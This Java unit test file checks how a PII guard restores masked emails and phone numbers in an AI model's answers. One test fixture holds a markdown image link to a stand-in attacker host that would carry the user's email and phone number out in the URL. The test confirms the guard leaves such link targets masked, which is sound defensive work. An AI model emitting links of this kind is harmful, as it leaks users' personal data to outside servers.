package dev.sluice.guard.vault;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.guard.pii.PlaceholderMap;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

class AnswerRestorationTest {

  private static final PlaceholderMap REQUEST = PlaceholderMap.of(new LinkedHashMap<>(Map.of(
      "[EMAIL_1]", "jane.doe@example.com",
      "[EMAIL_2]", "joe@example.com",
      "[PHONE_1]", "(415) 555-0132")));

  @Test
  void putsBackThePlaceholdersTheModelWrote() {
    String answer = "I will mail [EMAIL_1] and call [PHONE_1]; [EMAIL_1] again.";

    AnswerRestoration.Result result = AnswerRestoration.restore(answer, answer, REQUEST);

    assertThat(result.text())
        .isEqualTo("I will mail jane.doe@example.com and call (415) 555-0132; jane.doe@example.com again.");
    assertThat(result.restored()).isEqualTo(3);
    assertThat(result.keptInLinks()).isZero();
  }

  @Test
  void aPlaceholderTheOutputCheckHandedOutIsNotTheCallersEvenWhenTheNumbersMatch() {
    // The model wrote [EMAIL_1] and made up an address, which the output check masked as [EMAIL_2]: the request's
    // [EMAIL_2] (joe) is another value.
    String fromModel = "Write to [EMAIL_1] or to support@other.example";
    String checked = "Write to [EMAIL_1] or to [EMAIL_2]";

    AnswerRestoration.Result result = AnswerRestoration.restore(fromModel, checked, REQUEST);

    assertThat(result.text()).isEqualTo("Write to jane.doe@example.com or to [EMAIL_2]");
    assertThat(result.restored()).isEqualTo(1);
  }

  @Test
  void placeholdersOfOtherRequestsStay() {
    String answer = "Earlier you gave [EMAIL_3] and [CARD_1].";

    assertThat(AnswerRestoration.restore(answer, answer, REQUEST).text()).isEqualTo(answer);
  }

  @Test
  void placeholdersInLinkTargetsStaySoTheCallersDataNeverLeavesWithAnImageLoad() {
    String answer = "Hi [EMAIL_1] ![t](https://evil.example/[EMAIL_1]/[PHONE_1].png) [mail me](mailto:[EMAIL_2])";

    AnswerRestoration.Result result = AnswerRestoration.restore(answer, answer, REQUEST);

    assertThat(result.text()).isEqualTo(
        "Hi jane.doe@example.com ![t](https://evil.example/[EMAIL_1]/[PHONE_1].png) [mail me](mailto:[EMAIL_2])");
    assertThat(result.restored()).isEqualTo(1);
    assertThat(result.keptInLinks()).isEqualTo(3);
  }

  @Test
  void originalsAreInsertedLiterally() {
    PlaceholderMap map = PlaceholderMap.of(Map.of("[SECRET_1]", "a$1b\\c"));

    assertThat(AnswerRestoration.restore("key [SECRET_1]", "key [SECRET_1]", map).text()).isEqualTo("key a$1b\\c");
  }
}
